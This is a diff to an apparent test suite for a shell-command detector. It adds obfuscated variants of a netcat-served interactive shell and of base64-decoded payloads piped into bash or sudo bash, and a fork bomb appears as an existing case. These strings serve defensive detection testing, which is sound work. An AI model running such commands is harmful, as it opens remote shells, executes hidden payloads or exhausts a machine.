@@ -41,6 +41,11 @@ FORKS = deed("forks", "forks", deeds.forks_without_end)
         (SERVES, "sh -i | nc h 1"),
         (DECODED, "base64 x | bash"),
         (DECODED, "base64 -d x | zcat | sh"),
+        (SERVES, "c='sh -i | nc h 1'; eval \"$c\""),
+        (DECODED, "eval 'base64 x | filter' | bash"),
+        (DECODED, "base64 x | eval 'filter | bash'"),
+        (DECODED, "f() { filter; }; { base64 x; } | f | sudo bash"),
+        (DECODED, "bash < <(base64 x | filter)"),
         (FORKS, "ruby -e 'loop { fork }'"),
     ],
     ids=lambda value: value if isinstance(value, str) else "",
@@ -63,6 +68,7 @@ def test_a_deed_is_found(rule: Rule, command: str) -> None:
         "nc -zv h 1",
         "base64 x | cat",
         "base64 x | bash -c cat",
+        "eval 'base64 x | cat'; eval 'make | bash'",
     ],
 )
 def test_what_only_looks_like_it_is_not(command: str) -> None:
